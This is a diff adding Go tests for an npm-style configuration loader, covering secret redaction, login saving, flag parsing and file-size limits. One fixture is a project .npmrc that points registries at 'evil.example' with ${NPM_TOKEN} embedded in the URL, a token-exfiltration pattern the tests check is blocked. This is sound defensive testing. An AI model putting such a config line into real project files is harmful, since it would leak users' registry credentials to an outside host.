@@ -1,0 +1,201 @@
+package config
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestProjectFileCannotSendSecretsInAddresses(t *testing.T) {
+	c := load(t, nil, []string{"NPM_TOKEN=s3cret", "TEAM=blue"}, map[string]string{
+		"project/package.json": "{}",
+		"project/.npmrc": "registry=https://evil.example/${NPM_TOKEN}/\n" +
+			"@a:registry=https://evil.example/?t=${NPM_TOKEN?}\n" +
+			"@b:registry=https://r.example/${TEAM}/\n" +
+			"//r.example/:_authToken=${NPM_TOKEN}\n",
+		"home/.npmrc": "@u:registry=https://r.example/${NPM_TOKEN}/\n",
+	})
+	for key, want := range map[string]string{
+		"registry":    "https://registry.npmjs.org/",
+		"@a:registry": "",
+		"@b:registry": "https://r.example/blue/",
+		// The user's own file may do as it likes.
+		"@u:registry":             "https://r.example/s3cret/",
+		"//r.example/:_authToken": "s3cret",
+	} {
+		if got := c.String(key); got != want {
+			t.Errorf("%s is %q, want %q", key, got, want)
+		}
+	}
+	warned := 0
+	for _, w := range c.Warnings() {
+		if strings.Contains(w.Text, "s3cret") {
+			t.Errorf("%s has the secret in it", w.Text)
+		}
+		if strings.Contains(w.Text, "${NPM_TOKEN}") {
+			warned++
+		}
+	}
+	if warned != 2 {
+		t.Errorf("%d warnings: %v", warned, c.Warnings())
+	}
+}
+
+func TestCredentialsDoNotPrintTheirSecrets(t *testing.T) {
+	const secret = "hunter2hunter2"
+	login := Login{Token: secret, Username: "u", Password: secret, Basic: secret}
+	cred := Credential{Token: secret, Basic: secret, Key: "//r.example/"}
+	for _, format := range []string{"%v", "%+v", "%#v", "%s", "%q"} {
+		for _, x := range []any{cred, &cred, login, &login, []Credential{cred}, struct{ C Credential }{cred}} {
+			if s := fmt.Sprintf(format, x); strings.Contains(s, secret) {
+				t.Errorf("%s of %T: %s", format, x, s)
+			}
+		}
+	}
+	if s := cred.LogValue().String(); strings.Contains(s, secret) {
+		t.Error(s)
+	}
+	if s := URL("https://u:" + secret + "@h.example/x").String(); s != "https://u:***@h.example/x" {
+		t.Error(s)
+	}
+	if s := RedactWords("ibid --registry=https://u:" + secret + "@h/ x"); strings.Contains(s, secret) {
+		t.Error(s)
+	}
+}
+
+func TestSecretsAreNotExportedToScripts(t *testing.T) {
+	c := load(t, []string{"--password=pw", "--_auth=x", "--//r.example/:_authToken=y"}, []string{"npm_config__authToken=z"}, map[string]string{
+		"home/.npmrc": "//r.example/:_password=p\n_auth=q\nusername=me\nemail=e\nauthToken=t\n",
+	})
+	for name, value := range c.ChildEnviron() {
+		for _, word := range []string{"auth", "password", "username", "email"} {
+			if strings.Contains(strings.ToLower(name), word) {
+				t.Errorf("%s=%s is exported", name, value)
+			}
+		}
+	}
+}
+
+// A token and a password are written to the user's file, private, and logging
+// in again keeps what else is there.
+func TestLoginIsSavedInTheUsersFile(t *testing.T) {
+	c := load(t, nil, nil, map[string]string{
+		"home/.npmrc": "tag=next\n//r.example/npm/:email=e\n//r.example/npm/:username=old\n//r.example/npm/:_password=b2xk\n//r.example/npm/:always-auth=true\n",
+	})
+	file := filepath.Join(c.Home(), ".npmrc")
+	check := func(want string) {
+		t.Helper()
+		if err := c.Save(User); err != nil {
+			t.Fatal(err)
+		}
+		data, err := os.ReadFile(file)
+		if err != nil || string(data) != want {
+			t.Errorf("%q, %v, want %q", data, err, want)
+		}
+		if st, err := os.Stat(file); err != nil || st.Mode().Perm() != 0o600 {
+			t.Errorf("mode %v", st.Mode())
+		}
+	}
+	registry := "https://r.example/npm/"
+	if l := c.Login(registry); l.Username != "old" || l.Password != "old" || l.Email != "e" {
+		t.Errorf("%#v %s", l, l.Email)
+	}
+	if err := c.SetLogin(registry, Login{Token: "T"}); err != nil {
+		t.Fatal(err)
+	}
+	check("tag=next\n//r.example/npm/:email=e\n//r.example/npm/:_authToken=T\n")
+	if err := c.SetLogin(registry, Login{Username: "u", Password: "p"}); err != nil {
+		t.Fatal(err)
+	}
+	check("tag=next\n//r.example/npm/:email=e\n//r.example/npm/:username=u\n//r.example/npm/:_password=\"cA==\"\n")
+	if got := c.Auth("https://r.example/npm/x", registry).Authorization(); got != "Basic dTpw" {
+		t.Error(got)
+	}
+	if err := c.SetLogin(registry, Login{Username: "u"}); err == nil {
+		t.Error("a login without password is saved")
+	}
+	c.ClearLogin(registry, User)
+	check("tag=next\n")
+	c.Delete("tag", User)
+	if err := c.Save(User); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := os.Stat(file); err == nil {
+		t.Error("a file without settings stays")
+	}
+}
+
+func TestSavingKeepsASymbolicLink(t *testing.T) {
+	c := load(t, nil, nil, map[string]string{"dotfiles/npmrc": "tag=x\n"})
+	file := filepath.Join(c.Home(), ".npmrc")
+	target := filepath.Join(filepath.Dir(c.Home()), "dotfiles", "npmrc")
+	if err := os.Symlink(target, file); err != nil {
+		t.Skip(err)
+	}
+	if err := c.Change(User, []Setting{{"tag", "y"}}); err != nil {
+		t.Fatal(err)
+	}
+	if st, err := os.Lstat(file); err != nil || st.Mode()&os.ModeSymlink == 0 {
+		t.Errorf("the link is gone: %v", err)
+	}
+	if data, _ := os.ReadFile(target); string(data) != "tag=y\n" {
+		t.Errorf("%q", data)
+	}
+}
+
+func TestCommandsOwnFlags(t *testing.T) {
+	defs := []Definition{
+		{Key: "file", Types: []Type{{Kind: TypeString}}, Default: Value{kind: Null}},
+		{Key: "repository", Aliases: []string{"repo"}, Types: []Type{{Kind: TypeString}}, Default: Value{kind: Null}},
+		{Key: "allow-publish", Types: []Type{{Kind: TypeBoolean}}, Default: NewBool(false), Short: "z"},
+	}
+	c := load(t, []string{"trust", "github", "pkg", "--file", "a.yml", "--repo=o/r", "-z", "--json"}, nil, nil)
+	flags, words, err := c.CommandFlags(defs, 2)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if flags["file"].String() != "a.yml" || flags["repository"].String() != "o/r" || !flags["allow-publish"].Truthy() {
+		t.Errorf("%v", flags)
+	}
+	if len(words) != 1 || words[0] != "pkg" || !c.Bool("json") {
+		t.Errorf("%q", words)
+	}
+	for _, w := range c.Warnings() {
+		t.Errorf("%+v", w)
+	}
+	c = load(t, []string{"trust", "github", "--repo=a", "--repository=b"}, nil, nil)
+	if _, _, err := c.CommandFlags(defs, 2); err == nil || err.Error() != "Please provide only one of --repository or --repo" {
+		t.Error(err)
+	}
+	c = load(t, []string{"trust", "github", "--bogus"}, nil, nil)
+	if _, _, err := c.CommandFlags(defs, 2); err == nil {
+		t.Error("--bogus is accepted")
+	}
+}
+
+func TestFlagsAfterDashesAreWords(t *testing.T) {
+	c := load(t, []string{"run", "test", "--silent", "--", "-verbose", "--foo"}, nil, nil)
+	after, ok := c.AfterDash()
+	if !ok || len(after) != 2 || after[0] != "-verbose" || len(c.Args()) != 4 || !c.Silent() {
+		t.Errorf("%q %q", c.Args(), after)
+	}
+	if err := c.CheckUnknown(); err != nil {
+		t.Error(err)
+	}
+	if _, ok := load(t, []string{"run", "test"}, nil, nil).AfterDash(); ok {
+		t.Error("there was no --")
+	}
+}
+
+// A device that never ends is read up to a limit.
+func TestEndlessFileIsNotReadToItsEnd(t *testing.T) {
+	if _, err := os.Stat("/dev/zero"); err != nil {
+		t.Skip(err)
+	}
+	c := load(t, nil, nil, map[string]string{"project/package.json": "{}", "project/.npmrc": "userconfig=/dev/zero\n"})
+	if w := c.Warnings(); len(w) != 1 || !strings.Contains(w[0].Text, "more than 16 MB") {
+		t.Errorf("%v", w)
+	}
+}
